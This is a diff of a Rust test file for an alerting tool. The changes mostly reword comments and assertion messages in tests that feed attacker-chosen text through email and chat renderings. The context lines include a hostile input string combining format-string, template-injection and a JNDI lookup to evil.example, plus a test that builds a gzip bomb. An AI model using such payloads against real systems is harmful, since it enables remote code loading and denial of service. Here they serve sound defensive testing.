@@ -1,4 +1,4 @@
-//! Text that an attacker chooses, and files that nobody meant to be read.
+//! Text that an attacker chooses, and files that were not meant as input.
 
 use rattle::alert::email::Email;
 use rattle::alert::machine::rattle::FindingLine;
@@ -26,7 +26,7 @@ pub const HOSTILE: [&str; 9] = [
     "%s%n{{7*7}}${jndi:ldap://evil.example/a}",
 ];
 
-/// A finding about a role whose every free field is this text.
+/// A finding about a role whose free fields all hold this text.
 fn finding(text: &str) -> Finding {
     finding_of(text, &|_| {})
 }
@@ -67,7 +67,7 @@ pub fn assert_subject(subject: &str) {
     assert!(subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{subject:?}");
 }
 
-/// Plain text whose headings and commands no caller can change.
+/// Checks plain text whose headings and commands no caller can change.
 pub fn assert_body(body: &str) {
     assert!(body.len() < 16 << 10, "{} bytes", body.len());
     assert!(body.chars().all(|c| c == '\n' || c == '±' || (' '..='~').contains(&c)), "{body:?}");
@@ -123,12 +123,12 @@ fn assert_within_all_limits(text: &str, finding: Finding) {
     }
 }
 
-/// Each rendering stays within the limits of its protocol, whatever the names are.
+/// Each rendering stays within the limits of its protocol, however long the names are.
 fn assert_within_limits(finding: &Finding) {
     let is_printable = |text: &str| text.bytes().all(|byte| (b' '..=b'~').contains(&byte));
     let Email { subject, body } = Email::about(finding, &deployment());
     assert!(subject.len() < 100 && is_printable(&subject), "{subject:?}");
-    assert!(subject.contains(&what(finding)), "what was seen is never cut: {subject}");
+    assert!(subject.contains(&what(finding)), "the counts are never cut: {subject}");
     assert!(body.len() < 16 << 10, "{} bytes", body.len());
     for line in body.lines().take(3) {
         assert!(line.chars().count() <= 72, "{line}");
@@ -161,7 +161,7 @@ fn assert_within_limits(finding: &Finding) {
     assert!(bytes < 200 << 10, "{bytes} bytes in one message");
 }
 
-/// Words of a caller stand between two backticks and nowhere else in a chat message.
+/// In a chat message a caller's words stand between two backticks and nowhere else.
 fn assert_no_markup(chat: &Value) {
     let content = &chat["content"];
     let mut texts =
@@ -257,12 +257,12 @@ fn a_gzip_that_is_cut_off_stops_the_run() {
     assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
 }
 
-/// 2 GiB of one record in a gzip of 2 MB: read in the memory of one record.
+/// A gzip file of 2 MB that holds one record of 2 GiB: it is read in the memory of one record.
 #[test]
 fn a_bomb_is_read_in_bounded_memory() {
     let folder = TemporaryFolder::new("bomb");
     let record = record(MONDAY as f64, "e", &[]).to_string();
-    // A gzip file may have several members: one of zeros, repeated, is quick to write.
+    // A gzip file may have several members, and repeating one member of zeros is quick.
     let filler = gzip(&vec![b'x'; 64 << 20]);
     let mut bomb = gzip(b"[{\"eventName\":\"");
     for _ in 0..32 {
